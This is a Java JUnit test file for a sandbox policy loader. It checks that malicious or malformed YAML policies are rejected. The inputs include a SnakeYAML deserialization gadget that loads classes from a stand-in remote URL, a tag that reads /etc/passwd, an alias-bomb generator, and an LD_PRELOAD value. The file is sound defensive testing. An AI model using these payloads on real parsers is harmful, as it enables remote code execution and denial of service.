package dev.tars.runner.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tars.runner.model.FailureCode;
import dev.tars.runner.model.FileProblem;
import dev.tars.runner.model.RunnerException;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;

/** Policy files that try to be something else, or are simply wrong: POL-01 to POL-05 and more. */
class StrictLoadingTest {
  private static final String HEAD =
      "apiVersion: tars.dev/policy/v1\nkind: PermissionPolicy\nmetadata: { name: test }\n";
  private static final Duration SOON = Duration.ofSeconds(5);

  @TempDir private Path temp;
  private PolicyFiles files;

  @BeforeEach
  void make() {
    files = new PolicyFiles(temp);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "resources: { pids: 40000 } | the largest value is 32768",
        "resources: { pids: 99999999999999999999 } | the largest value is 32768",
        "resources: { pids: 0 } | the smallest value is 1",
        "resources: { pids: -99999999999999 } | the smallest value is 1",
        "resources: { pids: 0x10 } | write it in decimal digits",
        "network: { deny: [{ id: n, hosts: [x.org], ports: [70000] }] } | the largest value is 65535",
      })
  void aNumberThatIsOneIsToldItsBound(String text, String fix) {
    assertThat(problems(HEAD + text)).anySatisfy(p -> assertThat(p.fix()).isEqualTo(fix));
  }

  // ---- YAML that is more than data

  @ParameterizedTest
  @ValueSource(
      strings = {
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
        "metadata: !!java.io.File [/etc/passwd]",
        "metadata: { name: !custom x }",
        "metadata: { name: !!binary aGk= }",
        "filesystem: !!set { a, b }",
        "network: !<tag:example.org,2026:x> {}"
      })
  void aTagIsRefusedAndNoClassIsLoaded(String text) {
    List<FileProblem> problems =
        problems((text.startsWith("!!javax") ? "# apiVersion: tars.dev/\n" : HEAD) + text);
    assertThat(problems).anySatisfy(p -> assertThat(p.what()).contains("tag"));
  }

  @Test
  void anAliasBombIsRefusedAtOnceWhereAPlainLoaderUnfoldsIt() {
    StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (char c = 'b'; c <= 'i'; c++) {
      char p = (char) (c - 1);
      bomb.append(c).append(": &").append(c).append(" [");
      bomb.append(("*" + p + ",").repeat(8)).append("*").append(p).append("]\n");
    }
    Object unfolded =
        new Load(LoadSettings.builder().setMaxAliasesForCollections(1_000).build())
            .loadFromString(bomb.toString().lines().limit(3).collect(Collectors.joining("\n")));
    assertThat(unfolded.toString().split("lol", -1)).hasSizeGreaterThan(729);
    Assertions.assertTimeout(SOON, () -> assertThat(problems(HEAD + bomb)).isNotEmpty());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "variables: { a: &x [b] }\nfilesystem: { write: [ { id: w, paths: *x } ] }\n",
        "filesystem: &f\n  default: deny\n",
        "variables: &v { v: *v }\n",
        "filesystem: { <<: { default: deny } }\n",
        "? [a, b]\n: c\n",
        "--- {}\n",
        "...\n---\napiVersion: tars.dev/policy/v1\n"
      })
  void structureThatIsNotPlainIsRefused(String text) {
    assertThat(problems(HEAD + text)).isNotEmpty();
  }

  @Test
  void aKeyThatStandsTwiceIsAnErrorWhereAPlainLoaderTakesTheLast() {
    String twice = HEAD + "approval: { count: 3 }\napproval: { auto: \"true\" }\n";
    Map<?, ?> last =
        (Map<?, ?>)
            new Load(LoadSettings.builder().setAllowDuplicateKeys(true).build())
                .loadFromString(twice);
    assertThat(last.get("approval").toString()).contains("auto");
    assertThat(problems(twice))
        .singleElement()
        .satisfies(p -> assertThat(p.what()).contains("'approval' stands twice; first in line 4"))
        .satisfies(p -> assertThat(p.at().line()).isEqualTo(5));
  }

  // ---- files that are no policies

  @Test
  void aMissingFileIsNotFoundAndNothingTakesItsPlace() {
    PolicyLoader loader =
        new PolicyLoader(new PolicySources(files.workspace, temp, Map.of(), temp.resolve("home")));
    assertThatThrownBy(() -> loader.load(Optional.of("gone.yaml")))
        .isInstanceOfSatisfying(
            RunnerException.class, e -> assertThat(e.code()).isEqualTo(FailureCode.NOT_FOUND));
    PolicyLoader env =
        new PolicyLoader(
            new PolicySources(
                files.workspace, temp, Map.of("TARS_POLICY", "gone.yaml"), temp.resolve("home")));
    assertThatThrownBy(() -> env.load(Optional.empty())).isInstanceOf(RunnerException.class);
  }

  @Test
  void aDirectoryOrAPipeIsRefusedWithoutWaiting() throws Exception {
    Path policy = temp.resolve("policy.yaml");
    Files.createDirectory(policy);
    assertThat(failure().getMessage()).contains("not a regular file");
    Files.delete(policy);
    assertThat(new ProcessBuilder("mkfifo", policy.toString()).start().waitFor()).isZero();
    Assertions.assertTimeoutPreemptively(
        SOON, () -> assertThat(failure().getMessage()).contains("not a regular file"));
  }

  /** A test of a policy, or a link, may make tarscli read any file of the host. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "root:$6$secret:20228:0:99999:7:::\n",
        "secret\n",
        "apiVersion: v1\ntoken: secret\n",
        "a: [secret\n",
        "!secret {}\n",
      })
  void nothingOfAFileThatIsNotOursIsShown(String host) throws IOException {
    files.file("policy.yaml", host);
    RunnerException refused = failure();
    assertThat(refused.getMessage() + refused.notes() + refused.help() + refused.problems())
        .contains("does not say apiVersion: tars.dev")
        .doesNotContain("secret");
  }

  @Test
  void aHugeFileIsNotReadWhole() throws IOException {
    Path policy = files.file("policy.yaml", HEAD);
    try (RandomAccessFile file = new RandomAccessFile(policy.toFile(), "rw")) {
      file.setLength(100L << 20);
    }
    Assertions.assertTimeout(
        SOON, () -> assertThat(failure().getMessage()).contains("larger than"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-32", "ISO-8859-1", "bom"})
  void anotherEncodingIsRefusedByName(String charset) throws IOException {
    String text = HEAD + "# caf\u00e9\n";
    byte[] bytes =
        charset.equals("bom") ? ("\uFEFF" + text).getBytes("UTF-8") : text.getBytes(charset);
    write(bytes);
    assertThat(failure().problems())
        .singleElement()
        .satisfies(p -> assertThat(p.at().file()).endsWith("policy.yaml"))
        .satisfies(p -> assertThat(p.at().line()).isPositive());
    write(text.getBytes(StandardCharsets.UTF_8));
    assertThat(files.load().layers()).containsExactly("user"); // the control
  }

  @Test
  void nothingInTheFileIsAnErrorAndNotAPolicyThatSaysNothing() {
    for (String text : List.of("", "\n\n", "# only a comment\n", "null", "~", "[]", "text", "42")) {
      assertThat(problems(text)).as(text).isNotEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"[", "{a: ", "- "})
  void deepNestingIsRefusedInBoundedTime(String open) {
    String deep = HEAD + "x: " + open.repeat(10_000);
    Assertions.assertTimeout(SOON, () -> assertThat(problems(deep)).isNotEmpty());
  }

  @Test
  void aMillionBracketsAndAHundredThousandKeysAreRefusedInBoundedTime() {
    Assertions.assertTimeout(
        SOON, () -> assertThat(problems("[".repeat((1 << 20) - 10))).isNotEmpty());
    String keys =
        IntStream.range(0, 70_000).mapToObj(i -> "k" + i + ": 1").collect(Collectors.joining("\n"));
    Assertions.assertTimeout(SOON, () -> assertThat(problems(HEAD + keys)).isNotEmpty());
  }

  @Test
  void aFileThatOthersMayWriteToIsNotTrusted() throws IOException {
    Path policy = files.file("policy.yaml", HEAD);
    assertThat(files.load().layers()).containsExactly("user"); // the control
    Files.setPosixFilePermissions(policy, PosixFilePermissions.fromString("rw-rw-rw-"));
    assertThat(failure().getMessage()).contains("not trusted");
  }

  // ---- values that are not what they look like

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "netwrok: none|network",
        "filesystem: { wriet: [] }|write",
        "filesystem: { write: [ { id: a, path: [x] } ] }|paths",
        "filesystem: { hide: [ { id: a, paths: [x], operations: [modify] } ] }|",
        "filesystem: { scratch: [ { id: a, paths: [x], approval: b } ] }|",
        "filesystem: { write: [ { id: a, paths: [x], approval: b } ] }|",
        "filesystem: { read: [ { id: a, paths: [x], operations: [create] } ] }|",
        "filesystem: { default: allow }|deny",
        "filesystem: { default: Deny }|deny",
        "filesystem: { symlinks: { folow: inside-workspace } }|follow",
        "filesystem: { limits: { fileSiez: 1KiB } }|fileSize",
        "files: { allow: [ { id: a, kind: [text] } ] }|kinds",
        "files: { deny: [ { id: a, kinds: [executables] } ] }|executable",
        "files: { deny: [ { id: a, extensions: [.exe] } ] }|",
        "files: { deny: [ { id: a, extensions: [\"*.exe\"] } ] }|",
        "files: { deny: [ { id: a, modes: [suid] } ] }|setuid",
        "files: { deny: [ { id: a } ] }|",
        "files: { deny: [ { id: a, kinds: [] } ] }|",
        "files: { secretScan: deny }|",
        "processes: { shell: allow }|deny",
        "processes: { allow: [ { id: a, argv: mvn test } ] }|",
        "processes: { allow: [ { id: a, argv: [mvn, 1] } ] }|",
        "processes: { allow: [ { id: a, argv: [mvn, { oneof: [x] }] } ] }|oneOf",
        "processes: { allow: [ { id: a, argv: [mvn, { oneOf: [] }] } ] }|",
        "processes: { allow: [ { id: a, argv: [] } ] }|",
        "processes: { allow: [ { id: a, argv: [mvn], any: true } ] }|",
        "processes: { allow: [ { id: a, argv: [mvn], moreArgs: \"(\" } ] }|",
        "processes: { allow: [ { id: a, argv: [mvn], moreArgs: \"(a)\\\\1\" } ] }|",
        "processes: { allow: [ { id: a, argv: [mvn], moreArgs: \"(?=a)b\" } ] }|",
        "network: none|",
        "network: { allow: [ { id: a, hosts: [x.org] } ] }|ports",
        "network: { allow: [ { id: a, hosts: [\"*\"], ports: [443] } ] }|",
        "network: { allow: [ { id: a, hosts: [\"*.org\"], ports: [443] } ] }|",
        "network: { allow: [ { id: a, hosts: [\"a.*.org\"], ports: [443] } ] }|",
        "network: { allow: [ { id: a, hosts: [\"10.0.0.1\"], ports: [443] } ] }|cidrs",
        "network: { allow: [ { id: a, hosts: [\"https://x.org\"], ports: [443] } ] }|",
        "network: { allow: [ { id: a, hosts: [X.org], ports: [443] } ] }|",
        "network: { allow: [ { id: a, hosts: [localhost], ports: [443] } ] }|",
        "network: { allow: [ { id: a, hosts: [x.org], ports: [\"443\"] } ] }|",
        "network: { allow: [ { id: a, hosts: [x.org], ports: [0] } ] }|",
        "network: { allow: [ { id: a, hosts: [x.org], ports: [65536] } ] }|",
        "network: { allow: [ { id: a, hosts: [x.org], ports: [443], phases: [runs] } ] }|run",
        "network: { allow: [ { id: a, cidrs: [10.0.0.1/8], ports: [443] } ] }|10.0.0.0/8",
        "network: { allow: [ { id: a, cidrs: [10.0.0.0/33], ports: [443] } ] }|",
        "network: { allow: [ { id: a, cidrs: [0.0.0.0/0], ports: [443] } ] }|",
        "network: { allow: [ { id: a, cidrs: [169.254.169.254/32], ports: [80] } ] }|",
        "network: { allow: [ { id: a, cidrs: [010.0.0.0/8], ports: [443] } ] }|",
        "environment: { inherit: [PATH] }|",
        "environment: { planMaySet: [\"A=B\"] }|",
        "environment: { deny: [\"A-*\"] }|",
        "environment: { set: { LD_PRELOAD: x } }|",
        "environment: { set: { A: 1 } }|quotes",
        "resources: { pids: \"unlimited\" }|",
        "resources: { memory: -1 }|",
        "resources: { memory: 0 }|",
        "resources: { memory: 0B }|",
        "resources: { memory: 2GB }|",
        "resources: { memory: 1e9 }|",
        "resources: { pids: 0777 }|",
        "resources: { pids: 0o777 }|",
        "resources: { pids: 0x10 }|",
        "resources: { pids: 1_000 }|",
        "resources: { pids: 1.0 }|",
        "resources: { pids: .inf }|",
        "resources: { pids: !!int \"7\" }|",
        "resources: { pids: 99999999999999999999 }|",
        "resources: { memory: { default: 2GiB } }|max",
        "resources: { memory: { default: 2GiB, max: 1GiB } }|",
        "resources: { memory: { max: 1GiB, maximum: 2GiB } }|",
        "resources: { swap: 1GiB }|0B",
        "resources: { wallClock: 0s }|",
        "resources: { wallClock: -5m }|",
        "resources: { wallClock: 99999999 }|",
        "resources: { wallClock: NaN }|",
        "runtime: { readOnlyRoot: no }|",
        "runtime: { noNewPrivileges: off }|",
        "runtime: { readOnlyRoot: false }|true",
        "runtime: { capabilities: [NET_ADMIN] }|",
        "runtime: { seccomp: unconfined }|strict",
        "runtime: { privileged: true }|",
        "runtime: { engine: podman }|docker",
        "runtime: { runtime: \"../runc\" }|",
        "runtime: { images: [ { ref: \"x@sha256:abc\" } ] }|",
        "runtime: { images: [ { ref: \"x y\" } ] }|",
        "caches: [ { name: m2, target: /etc } ]|",
        "caches: [ { name: m2, target: /opt/../etc } ]|",
        "validation: { cleanRoom: false }|true",
        "validation: { onFailure: ignore }|stop",
        "testIntegrity: { baseline: never }|",
        "testIntegrity: { lockedConfiguration: [\"pom.xml#project\"] }|",
        "testIntegrity: { lockedConfiguration: [\"a.toml#/x\"] }|",
        "promotion: { target: /tmp }|worktree",
        "promotion: { requireBase: none }|",
        "audit: { redact: [\"(\"] }|",
        "audit: { redact: [\".*\"] }|",
        "audit: { decisions: none }|all",
        "evidence: { reports: [pdf] }|json",
        "evidence: { attestation: { format: in-toto } }|sign",
        "retention: { runs: forever }|",
        "retention: { runs: 90 }|",
        "explain: { toAgents: nothing }|rule-id",
        "requires: { tarscli: \"1.0\" }|>=1.0",
        "requires: { tarscli: \">=2.0\" }|",
        "requires: {}|tarscli",
        "variables: { a: [] }|",
        "variables: { unused: [x] }|",
        "tests: [\"../*.yaml\"]|",
        "metadata: { owners: me }|"
      })
  void anythingThatIsNotWhatItShouldBeIsAnErrorAtItsPlace(String body, String hint) {
    List<FileProblem> problems = problems(HEAD.replaceAll("metadata.*\n", "") + body + "\n");
    assertThat(problems)
        .allSatisfy(p -> assertThat(p.at().file()).endsWith("policy.yaml"))
        .allSatisfy(p -> assertThat(p.fix()).isNotBlank())
        .anySatisfy(p -> {
          assertThat(p.at().line()).isEqualTo(3);
          assertThat(p.at().column()).isPositive();
          assertThat(p.source()).hasSize(2);
          assertThat(p.what() + p.fix()).contains(hint == null ? "" : hint);
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "filesystem: { write: [ { id: a, paths: [\"a/${x}/b\"] } ] }",
        "filesystem: { write: [ { id: a, paths: [\"${x}\"] } ] }",
        "filesystem: { write: [ { id: a, paths: [\"${x\"] } ] }",
        "variables: { x: [\"${y}\"], y: [a] }\nfilesystem: { write: [ { id: a, paths: [\"${x}\", \"${y}\"] } ] }",
        "variables: { x: [\"!a\"] }\nfilesystem: { write: [ { id: a, paths: [\"${x}\"] } ] }"
      })
  void aVariableIsWholeDefinedAndPlain(String body) {
    assertThat(problems(HEAD + body)).isNotEmpty();
  }

  // ---- rules that can never apply

  @ParameterizedTest
  @ValueSource(
      strings = {
        "filesystem: { write: [ { id: w, paths: [pom.xml] } ], protect: [ { id: p, paths: [pom.xml] } ] }",
        "filesystem: { write: [ { id: w, paths: [\"a/b/**\"] } ], protect: [ { id: p, paths: [\"a/**\"] } ] }",
        "filesystem: { ask: [ { id: w, paths: [\"x/a.pem\"] } ], protect: [ { id: p, paths: [\"**/*.pem\"] } ] }",
        "filesystem: { write: [ { id: w, paths: [\"a/**\", \"**/.git/x\"] } ] }",
        "filesystem: { write: [ { id: w, paths: [\"a/**\"], except: [\"b/**\"] } ] }",
        "filesystem: { hide: [ { id: h, paths: [\"**/*.pem\"], except: [\"**/*.key\"] } ] }",
        "processes: { allow: [ { id: a, argv: [rm, x] } ], deny: [ { id: d, argv: [rm] } ] }",
        "processes: { allow: [ { id: a, argv: [rm] } ], deny: [ { id: d, any: true } ] }",
        "network: { allow: [ { id: a, hosts: [a.x.org], ports: [443] } ], deny: [ { id: d, hosts: [\"**.x.org\"] } ] }",
        "network: { allow: [ { id: a, cidrs: [10.1.0.0/16], ports: [443] } ], deny: [ { id: d, cidrs: [10.0.0.0/8] } ] }"
      })
  void aRuleThatCanNeverApplyIsAnError(String body) {
    assertThat(problems(HEAD + body))
        .anySatisfy(p -> assertThat(p.what()).contains("can never apply"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "filesystem: { write: [ { id: w, paths: [\"**\"] } ], protect: [ { id: p, paths: [pom.xml] } ] }",
        "filesystem: { write: [ { id: w, paths: [\"a/**\"] } ], protect: [ { id: p, paths: [\"a/**\"], operations: [delete] } ] }",
        "filesystem: { write: [ { id: w, paths: [\"a/**\"] } ], protect: [ { id: p, paths: [\"a/**\"], except: [\"a/b\"] } ] }",
        "filesystem: { hide: [ { id: h, paths: [\"**/.env.*\"], except: [\"**/.env.example\"] } ] }",
        "processes: { allow: [ { id: a, argv: [rm] } ], deny: [ { id: d, argv: [rm, x] } ] }",
        "network: { allow: [ { id: a, hosts: [\"**.x.org\"], ports: [443] } ], deny: [ { id: d, hosts: [a.x.org] } ] }",
        "network: { allow: [ { id: a, hosts: [x.org], ports: [443] } ], deny: [ { id: d, hosts: [\"**.x.org\"] } ] }"
      })
  void aRuleThatAppliesSometimesIsNone(String body) {
    assertThat(files.document(HEAD + body).layers()).containsExactly("user");
  }

  // ---- all of it, in one pass

  @Test
  void everyProblemOfEveryFileIsToldAtOnceWithItsLine() {
    files.file(
        "base.yaml", HEAD.replace("test", "base") + "resources:\n  pids: many\n  memroy: 1GiB\n");
    String digest = digest("base.yaml");
    List<FileProblem> problems =
        problems(
            HEAD
                + "extends: [{ ref: \"file:base.yaml\", sha256: "
                + digest
                + " }]\n"
                + "filesystem:\n  default: deny\n  default: deny\n  protect: [{ paths: [\"/x\"] }]\n"
                + "netwrok: none\nruntime: { seccomp: off }\n");
    assertThat(problems)
        .extracting(p -> p.at().file().replaceAll(".*/", "") + ":" + p.at().line())
        .containsExactly(
            "base.yaml:5",
            "base.yaml:6",
            "policy.yaml:7",
            "policy.yaml:8",
            "policy.yaml:9",
            "policy.yaml:10");
    assertThat(problems).allSatisfy(p -> assertThat(p.source().get(1)).endsWith("^"));
    assertThat(problems).anySatisfy(p -> assertThat(p.fix()).contains("did you mean 'network'?"));
  }

  @Test
  void anInnerNumberAboveAnOuterMaximumNamesBothLines() {
    assertThatThrownBy(() -> files.user("resources:\n  pids: 100\n", "resources:\n\n  pids: 101\n"))
        .isInstanceOfSatisfying(
            RunnerException.class,
            e -> {
              assertThat(e.where()).isEqualTo(".tars/policy.yaml:6:9");
              assertThat(e.getMessage()).contains("policy.yaml:5:9");
            });
    assertThat(files.user("resources:\n  pids: 100\n", "resources:\n  pids: 100\n").resources())
        .extracting(ResourceLimits::pids)
        .isEqualTo(100); // the control
  }

  @Test
  void aFileThatIsNotTheOneThatIsPinnedIsRefused() {
    files.file("base.yaml", HEAD.replace("test", "base"));
    String digest = digest("base.yaml");
    String text = HEAD + "extends: [{ ref: \"file:base.yaml\", sha256: " + digest + " }]\n";
    assertThat(files.document(text).layers()).containsExactly("user"); // the control
    files.file("base.yaml", HEAD.replace("test", "base") + "processes: { default: deny }\n");
    assertThat(problems(text))
        .singleElement()
        .satisfies(p -> assertThat(p.what()).contains("not the file that is pinned"));
    assertThat(problems(HEAD + "extends: [{ ref: \"file:base.yaml\" }]\n"))
        .singleElement()
        .satisfies(p -> assertThat(p.fix()).contains("sha256: "));
    assertThat(problems(HEAD + "extends: [{ ref: \"https://x.org/p.yaml\" }]\n")).isNotEmpty();
    assertThat(problems(HEAD + "extends: [{ ref: \"builtin:standrad\" }]\n"))
        .anySatisfy(p -> assertThat(p.fix()).contains("standard"));
  }

  @Test
  void twoLayersThatSayDifferentThingsOfOneThingDoNotLoad() {
    assertThatThrownBy(
            () -> files.user("runtime: { runtime: runc }\n", "runtime: { runtime: io.other }\n"))
        .hasMessageContaining("something else in an outer layer");
    assertThat(files.user("runtime: { runtime: runc }\n", "runtime: { runtime: runc }\n").layers())
        .hasSize(2); // the control
  }

  private List<FileProblem> problems(String text) {
    files.file("policy.yaml", text);
    return failure().problems();
  }

  private RunnerException failure() {
    try {
      files.load();
    } catch (RunnerException e) {
      return e;
    }
    throw new AssertionError("it loaded");
  }

  private void write(byte[] bytes) throws IOException {
    Files.write(files.file("policy.yaml", ""), bytes);
  }

  private String digest(String name) {
    try {
      return dev.tars.runner.model.Digest.of(Files.readAllBytes(temp.resolve(name))).hex();
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  @Test
  void manyProblemsOfOneLongLineDoNotCostItsSquare() {
    String names =
        IntStream.range(0, 40_000)
            .mapToObj(i -> "k" + i + ": [x]")
            .collect(Collectors.joining(","));
    Assertions.assertTimeoutPreemptively(
        SOON,
        () ->
            assertThat(problems(HEAD + "variables: {" + names + "}"))
                .hasSizeGreaterThan(10)
                .allSatisfy(p -> assertThat(p.source()).isNotEmpty()));
  }

  @Test
  void aLockedPlaceAsLongAsTheFileLetsItIsRead() {
    String locked = "testIntegrity: { lockedConfiguration: [\"pom.xml#%s\"] }";
    String deep = "/a".repeat(100_000);
    assertThat(problems(HEAD + locked.formatted(deep + "/"))).isNotEmpty();
    assertThat(problems(HEAD + locked.formatted("/a//b"))).isNotEmpty();
    assertThat(problems(HEAD + locked.formatted(deep) + "\nnope: x\n"))
        .noneMatch(p -> p.what().contains("after '#'"));
  }
}
